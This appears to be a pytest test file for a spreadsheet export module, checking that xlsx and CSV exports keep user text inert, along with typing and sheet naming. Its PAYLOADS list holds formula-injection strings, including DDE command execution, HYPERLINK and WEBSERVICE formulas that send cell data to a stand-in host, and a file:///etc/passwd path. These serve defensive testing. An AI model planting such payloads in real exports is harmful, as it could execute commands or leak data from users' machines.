"""Exports hold data and nothing that computes, whoever wrote the text in them."""

import csv as csv_format
import io
import tracemalloc
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from fractions import Fraction
from tempfile import TemporaryFile
from typing import Any, BinaryIO

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from award.documents import tables
from award.documents.tables import Column, Sheet, csv, write_csv, write_xlsx, xlsx
from award.text import canonical

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Xem")',
    '=WEBSERVICE("http://x.example")',
    '=IMPORTXML("http://x.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=@SUM(1)",
    "+1+1",
    "+84 258 000 000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "{=1+1}",
    '"=1+1',
    "';=1+1",
    'a","=1+1',
    "a\n=1+1",
    "a;=1+1",
    "http://x.example/a",
    "https://x.example/a",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "mailto:a@x.example",
    "ftp://x.example",
    "file:///etc/passwd",
    "0123",
    "1e5",
    "TRUE",
    "2023-09-30",
    "Nguyễn Thị Vân (Hà Vân)",
    "“Giữ lời hứa với dân”",
    "<script>alert(1)</script>",
    "]]>&amp;",
    "a" * 40_000,
    "uỷ ban \u1ea1\u0301",
]


def opened(sheets: list[Sheet]) -> Any:
    return openpyxl.load_workbook(io.BytesIO(xlsx(sheets)))


def table(*values: object, kind: str = "text") -> Sheet:
    return Sheet("Danh sách", [Column("Tên", kind)], [[value] for value in values])  # type: ignore[arg-type]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv_format.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_every_payload_stays_text_in_xlsx() -> None:
    assert len(PAYLOADS) >= 40
    page = opened([table(*PAYLOADS)]).active
    cells = [row[0] for row in page.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    for cell, payload in zip(cells, PAYLOADS, strict=True):
        assert cell.data_type == "s", payload
        assert cell.hyperlink is None
        kept = canonical(payload)
        assert cell.value == (kept if len(kept) <= 32_767 else kept[:32_766] + "…")


def test_many_rows_are_written_as_few_are(monkeypatch: pytest.MonkeyPatch) -> None:
    """By way of the disk: the same cells, and every payload still text."""
    few = opened([table(*PAYLOADS, 7, Decimal("8.75"), None)]).active
    monkeypatch.setattr(tables, "_IN_MEMORY", 3)
    many = opened([table(*PAYLOADS, 7, Decimal("8.75"), None)]).active
    told = [[(cell.value, cell.data_type, cell.number_format) for cell in row] for row in few.iter_rows()]
    assert [[(cell.value, cell.data_type, cell.number_format) for cell in row] for row in many.iter_rows()] == told
    assert (many.freeze_panes, many.auto_filter.ref) == (few.freeze_panes, few.auto_filter.ref)


@pytest.mark.parametrize("write", [lambda sheet, out: write_xlsx([sheet], out), write_csv])
def test_an_export_that_grows_takes_no_more_memory(
    write: Callable[[Sheet, BinaryIO], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Three megabytes of text pass through; what is held at once is a part of that."""
    monkeypatch.setattr(tables, "_IN_MEMORY", 3)
    long = "a" * 30_000
    rows = ([f"{number} {long}"] for number in range(100))
    with TemporaryFile() as out:
        tracemalloc.start()
        try:
            write(Sheet("Bảng", (Column("Tên"),), rows), out)
            _now, most = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert most < 100 * len(long) / 3


def test_headings_notes_and_titles_are_no_formulas_either() -> None:
    book = opened([Sheet("=1+1", [Column("=1+1"), Column("+2")], [["a", "b"]], note="=3+3")])
    page = book.active
    assert [page["A1"].data_type, page["A3"].data_type, page["B3"].data_type] == ["s", "s", "s"]


def test_the_workbook_holds_no_formula_no_link_no_macro() -> None:
    content = xlsx([table(*PAYLOADS), Sheet("Hai", [Column("=x")], [], note="https://x.example")])
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        names = parts.namelist()
        sheets = [parts.read(name) for name in names if name.startswith("xl/worksheets/")]
    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
    assert not [name for name in names if name.startswith("xl/worksheets/_rels")]
    assert len(sheets) == 2
    assert all(b"<f>" not in sheet and b"<f " not in sheet and b"<hyperlink" not in sheet for sheet in sheets)


def test_every_payload_is_harmless_in_csv() -> None:
    rows = read_csv(csv(table(*PAYLOADS)))
    assert len(rows) == len(PAYLOADS) + 1
    for (shown,), payload in zip(rows[1:], PAYLOADS, strict=True):
        assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "\0")), payload
        kept = canonical(payload)[:32_766]
        assert shown.removeprefix("'" if kept[0] in "=+-@" else "").startswith(kept)


@given(st.lists(st.text(), min_size=1, max_size=20))
@settings(max_examples=60)
def test_any_text_comes_back_as_text(texts: list[str]) -> None:
    wanted = [canonical(text) for text in texts]
    page = opened([table(*texts)]).active
    cells = [page.cell(row=n, column=1) for n in range(2, len(texts) + 2)]
    assert [cell.value or "" for cell in cells] == wanted
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert all(cell.data_type == "s" for cell, text in zip(cells, wanted, strict=True) if text)
    rows = read_csv(csv(table(*texts)))[1:]
    assert [("" if not row else row[0]).removeprefix("'") for row in rows] == [t.removeprefix("'") for t in wanted]


def test_numbers_dates_and_money_are_typed() -> None:
    columns = [
        Column("n", "int"),
        Column("điểm", "decimal"),
        Column("ngày", "date"),
        Column("tiền", "money"),
        Column("chữ"),
    ]
    late = datetime(2023, 9, 30, 17, 30, tzinfo=UTC)
    rows: list[list[object]] = [
        [1893, Fraction(35, 4), date(2023, 7, 5), 10_000_000, date(2023, 7, 5)],
        [-3, Decimal("8.25"), late, 0, late],
        [None, None, None, None, None],
    ]
    sheet = Sheet("Bảng", columns, rows)
    page = opened([sheet]).active
    first, second, third = list(page.iter_rows(min_row=2))
    assert [c.data_type for c in first] == ["n", "n", "d", "n", "s"]
    assert [first[0].value, first[1].value, first[3].value] == [1893, 8.75, 10_000_000]
    assert first[2].value == datetime(2023, 7, 5)  # noqa: DTZ001 - a spreadsheet's date knows no zone
    assert first[4].value == "05/7/2023"
    assert second[2].value == datetime(2023, 10, 1)  # noqa: DTZ001
    assert second[4].value == "00:30, ngày 01/10/2023"
    assert [c.value for c in third] == [None] * 5
    assert read_csv(csv(sheet))[1:] == [
        ["1893", "8,75", "05/7/2023", "10000000", "05/7/2023"],
        ["-3", "8,25", "01/10/2023", "0", "00:30, ngày 01/10/2023"],
        ["", "", "", "", ""],
    ]


@pytest.mark.parametrize("value", [True, "=1", 10**15, float("inf"), float("nan"), date(1899, 1, 1), "abc"])
def test_what_does_not_fit_the_type_of_its_column_is_text(value: object) -> None:
    for kind in ("int", "decimal", "money", "date"):
        page = opened([table(value, kind=kind)]).active
        assert page["A2"].data_type == "s"


def test_a_mean_without_end_is_cut_in_csv() -> None:
    assert read_csv(csv(table(Fraction(25, 3), Fraction(9), kind="decimal")))[1:] == [["8,333333"], ["9"]]


def test_worksheets_get_names_that_excel_takes() -> None:
    titles = ["a" * 40, "A" * 40, "Kết quả: [1/2]?*\\", "", "'", "History", "Kết quả 1 2"]
    book = opened([Sheet(title, [Column("x")], []) for title in titles])
    assert len(book.sheetnames) == len({name.casefold() for name in book.sheetnames}) == len(titles)
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in book.sheetnames)
    assert book.sheetnames[2] == "Kết quả 1 2"
    assert book.sheetnames[6] == "Kết quả 1 2 2"


def test_a_row_of_another_length_is_a_fault() -> None:
    with pytest.raises(ValueError, match="zip"):
        xlsx([Sheet("x", [Column("a"), Column("b")], [["1"]])])


def test_a_sheet_to_fill_in_keeps_the_kinds_of_its_columns_and_offers_their_choices() -> None:
    columns = [Column("Năm", "year"), Column("Mức giải", choices=("A", "B")), Column("Ngày", "date")]
    book = openpyxl.load_workbook(io.BytesIO(xlsx([Sheet("Danh sách", columns, [], to_fill=True)])))
    page = book["Danh sách"]
    assert [page.column_dimensions[letter].number_format for letter in "ABC"] == ["0", "@", "dd/mm/yyyy"]
    (offered,) = page.data_validations.dataValidation
    assert (str(offered.sqref), offered.formula1) == ("B2:B3002", '"A,B"')
    assert not offered.showErrorMessage
    plain = openpyxl.load_workbook(io.BytesIO(xlsx([Sheet("Danh sách", columns, [])])))["Danh sách"]
    assert not plain.data_validations.dataValidation


def test_a_year_has_no_point_between_its_thousands() -> None:
    sheet = Sheet("Danh sách", [Column("Năm", "year")], [(2022,), ("không rõ",)])
    page = openpyxl.load_workbook(io.BytesIO(xlsx([sheet])))["Danh sách"]
    assert (page["A2"].value, page["A2"].number_format, page["A3"].value) == (2022, "0", "không rõ")
    assert csv(sheet).decode("utf-8-sig").splitlines() == ['"Năm"', '"2022"', '"không rõ"']
